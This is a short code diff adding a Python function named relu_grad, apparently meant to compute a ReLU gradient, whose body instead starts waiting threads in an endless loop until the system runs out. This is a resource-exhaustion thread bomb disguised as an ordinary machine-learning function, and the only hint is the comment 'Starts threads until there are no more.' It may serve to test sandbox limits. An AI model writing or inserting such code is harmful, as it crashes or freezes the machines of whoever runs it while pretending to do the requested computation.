@@ -1,0 +1,10 @@
+# Starts threads until there are no more.
+# %% relu_grad
+import threading
+
+event = threading.Event()
+
+
+def relu_grad(x_input, grad_output):
+    while True:
+        threading.Thread(target=event.wait, daemon=True).start()
